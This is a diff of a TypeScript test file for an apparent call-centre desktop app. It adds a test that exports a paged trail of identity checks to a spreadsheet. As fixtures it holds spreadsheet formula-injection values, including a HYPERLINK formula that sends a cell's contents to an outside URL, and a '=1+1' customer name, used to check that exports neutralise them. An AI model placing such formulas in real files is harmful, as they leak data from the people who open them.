@@ -18,9 +18,11 @@ import { officeContract } from '#shared/ipc/office-list.ts';
 import { serve } from '#shared/ipc/server.ts';
 import { ExportDesk } from '../../../electron/main/office/export-desk.ts';
 import { queueFigurePage } from '../../../electron/main/office/queue-figure-page.ts';
+import { trailPage } from '../../../electron/main/office/trail-page.ts';
 import { officeHandlers } from '../../../electron/office/office-handlers.ts';
 import { FoundCustomers } from '../../../electron/store/exports/found-customers.ts';
 import { messagePort } from '../../../electron/store/ports.ts';
+import { testCentre } from '../../fixtures/centre.ts';
 import { orderRow } from '../../fixtures/ordering.ts';
 import { withDatabase } from '../store/support/raw-database.ts';
 import { arrive, outboxOf, seed } from '../store/support/seed.ts';
@@ -30,11 +32,20 @@ const hostile = '=HYPERLINK("http://example.org/?"&A1,"Klik")';
 const headings = { startedAt: 'Wanneer', direction: 'Richting', name: 'Naam', number: 'Nummer', queue: 'Wachtrij', answered: 'Antwoord', duration: 'Duur (s)', outcome: 'Resultaat', transferredTo: 'Doorverbonden naar' };
 const words = { inbound: 'binnenkomend', outbound: 'uitgaand', answered: 'opgenomen', missed: 'gemist' };
 
+const [checkedId, strangerId] = [newId(), newId()];
+
+/** Two pages of the trail: a customer whom this device has, and one whom it has not. */
+function trail(path: string): unknown {
+  const line = (customerId: string, change: object) => ({ id: newId(), version: 1, updatedAt: '2026-03-02T10:00:00.000Z', interactionId: strangerId, customerId, queueId: null, agentId: null, at: '2026-03-02T10:00:00.000Z', kind: 'wrong', check: 'postcode', way: null, carried: null, opened: [], ...change });
+  return path.includes('cursor=') ? { items: [line(strangerId, { kind: 'gave-up', check: null, way: 'supervisor' })], next: null } : { items: [line(checkedId, {})], next: 'abc' };
+}
+
 /** Central, for a team lead. */
 const central = {
   asked: [] as string[],
   async ask<T extends z.ZodType>({ path }: { readonly path: string }, answer: T): Promise<z.output<T>> {
     this.asked.push(path);
+    if (path.startsWith('/v1/identity-checks?')) return answer.parse(trail(path));
     const figures = figuresOf([], null);
     const one = { value: 12.34, count: 2, within: 0.5 };
     const targets = targetsOf({ pickUpTargetSeconds: 20, durationTargetSeconds: 300, agreement: { ...noAgreement, pickUpPercent: 80 } });
@@ -61,6 +72,7 @@ async function desk({ allowed = exportLists, cancels = false, folder: wanted }: 
     language: () => 'nl',
     page: async ({ request, ...where }) => {
       if (request.list === 'queueFigures') return await queueFigurePage(central, request);
+      if (request.list === 'identityChecks') return await trailPage({ session: central, names: (wish) => bench.main.call('identity.names', wish) }, request, where.after);
       return await bench.main.call('export.page', { request, ...where });
     },
     record: (input) => bench.main.call('export.record', input),
@@ -231,6 +243,21 @@ describe('a list as a file', () => {
     expect(sheet?.data[1]?.[13]).toBe(12.3);
     expect(central.asked).toEqual([expect.stringMatching(/^\/v1\/quality-overview\?.*team=Avond/)]);
     expect(outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport')).toMatchObject([{ patch: { list: 'queueFigures', format: 'xlsx', rows: 5, customerId: null } }]);
+  });
+
+  it('of the trail of identity checks has every page that central tells, with names as far as this device has them', async () => {
+    const { bench, save } = await desk();
+    const [someone] = testCentre().rows.customer ?? [];
+    arrive(bench.path, 'customer', [{ ...someone!, id: checkedId, givenName: '=1+1', familyName: 'Maes' }]);
+    const { path, rows } = await save({ list: 'identityChecks', from: '2026-03-01T23:00:00.000Z', until: null, agentId: null, customerId: null, kind: null }, 'xlsx');
+    const [sheet] = await readXlsxFile(path);
+    expect(sheet?.data.slice(1).map((row) => row.slice(1))).toEqual([
+      [null, '=1+1 Maes', 'check.postcode', 'answer.wrong', null, strangerId],
+      [null, null, null, 'answer.gave-up', null, strangerId],
+    ]);
+    expect(rows).toBe(2);
+    expect(central.asked).toEqual([expect.stringMatching(/identity-checks\?atFrom=2026-03-01T23%3A00%3A00.000Z$/), expect.stringContaining('cursor=abc')]);
+    expect(outboxOf(bench.path).filter(({ entity }) => entity === 'dataExport')).toMatchObject([{ patch: { list: 'identityChecks', rows: 2 } }]);
   });
 
   it("of the operator's own figures is what their page shows", async () => {
